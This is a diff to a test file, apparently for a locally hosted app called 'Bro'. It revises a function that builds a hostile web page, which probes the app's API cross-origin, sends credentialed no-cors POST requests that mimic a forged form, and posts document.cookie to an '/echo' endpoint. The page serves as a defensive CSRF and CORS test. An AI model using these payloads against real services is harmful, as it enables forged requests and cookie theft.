@@ -267,15 +267,16 @@ test('two hosts side by side work independently, and a tab without the link is t
 
 /** What a hostile page on another port tries: read Bro's API, post to it, find a credential. */
 function evilPage(bro: string): string {
-  return `<!doctype html><title>x</title><body><form id="f" method="POST" action="${bro}/api/cases.list" target="sink" enctype="text/plain"><input name="{}" value=""></form><iframe name="sink"></iframe>
-<img src="${bro}/api/cases.list"><img src="/probe.png">
+  const api = JSON.stringify(`${bro}/api/cases.list`);
+  return `<!doctype html><title>x</title><body><img src="${bro}/api/cases.list"><img src="/probe.png">
 <script>
 (async () => {
   const out = { cookie: document.cookie, storage: String(sessionStorage.length + localStorage.length) };
-  try { await fetch(${JSON.stringify(bro)} + '/api/cases.list', { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } }); out.cors = 'read'; }
+  try { await fetch(${api}, { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } }); out.cors = 'read'; }
   catch { out.cors = 'blocked'; }
-  try { await fetch(${JSON.stringify(bro)} + '/api/cases.list', { method: 'POST', mode: 'no-cors', body: '{}', credentials: 'include' }); } catch {}
-  document.getElementById('f').submit();
+  // Simple requests (no preflight), as a cross-site form would send them.
+  for (const type of ['text/plain', 'application/x-www-form-urlencoded'])
+    try { await fetch(${api}, { method: 'POST', mode: 'no-cors', body: '{}', headers: { 'Content-Type': type }, credentials: 'include' }); } catch {}
   await fetch('/echo', { method: 'POST', body: document.cookie, credentials: 'include' });
   location.href = '/done?' + encodeURIComponent(JSON.stringify(out));
 })();
